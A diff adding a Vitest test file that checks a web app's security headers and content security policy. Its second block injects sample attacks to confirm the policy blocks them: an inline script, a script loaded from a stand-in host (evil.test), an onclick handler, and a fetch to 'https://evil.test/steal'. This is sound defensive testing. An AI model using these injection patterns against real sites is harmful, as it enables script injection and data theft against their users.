@@ -1,0 +1,73 @@
+import { describe, expect, inject, it } from 'vitest';
+import { hosts } from '../support/browser/hosts.ts';
+import { openBrowser } from '../support/browser/openBrowser.ts';
+
+const { visit } = openBrowser();
+const origin = `http://127.0.0.1:${inject('port')}`;
+
+const scriptOf = async (): Promise<string> => {
+  const page = await (await fetch(`${origin}/`)).text();
+  return /src="(\/assets\/[^"]+\.js)"/.exec(page)?.[1] ?? '';
+};
+
+describe('The headers that keep a browser safe', () => {
+  it.each([
+    ['a page', '/', 200],
+    ['a room', '/ui/vehicles', 200],
+    ['a script', '', 200],
+    ['the configuration', '/config.json', 200],
+    ['an image', '/brands/green/logo.svg', 200],
+    ['a service', '/v1/companies/?isPaged=false&userId=1', 200],
+    ['a service that refuses', '/v1/companies?isPaged=false&userId=me', 401],
+    ['a service that is not there', '/api/v1/nothing', 404],
+    ['an asset that is not there', '/assets/nothing.js', 404],
+  ])('stand on %s', async (_, path, status) => {
+    const answer = await fetch(origin + (path || (await scriptOf())));
+    expect(answer.status).toBe(status);
+    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
+    expect(answer.headers.get('cross-origin-opener-policy')).toBe('same-origin');
+    const policy = answer.headers.get('content-security-policy') ?? '';
+    for (const rule of ["default-src 'self'", "script-src 'self'", "object-src 'none'", "frame-ancestors 'none'"]) {
+      expect(policy.split('; ')).toContain(rule);
+    }
+    expect(policy).not.toContain('unsafe');
+  });
+});
+
+describe('The content policy', () => {
+  it.each([
+    ['a script in the page', 'script-src-elem inline', () => {
+      const script = document.createElement('script');
+      script.textContent = 'document.documentElement.dataset.ran = "yes"';
+      document.body.append(script);
+    }],
+    ['a script of another host', 'script-src-elem https://evil.test', () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.test/x.js';
+      document.body.append(script);
+    }],
+    ['a handler in markup', 'script-src-attr inline', () => {
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'document.documentElement.dataset.ran = "yes"');
+      document.body.append(button);
+      button.click();
+    }],
+    ['a call to another host', 'connect-src https://evil.test', () => {
+      void fetch('https://evil.test/steal').catch(() => undefined);
+    }],
+  ])('stops %s', async (_, violation, attack) => {
+    const page = await visit(hosts.greenFleet, '/', { expects: [/Content Security Policy/, /^content policy: /] });
+    const reported = page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+            resolve(`${effectiveDirective} ${blockedURI}`),
+          );
+        }),
+    );
+    await page.evaluate(attack);
+    expect(await reported).toContain(violation);
+    expect(await page.evaluate(() => document.documentElement.dataset['ran'])).toBeUndefined();
+  });
+});
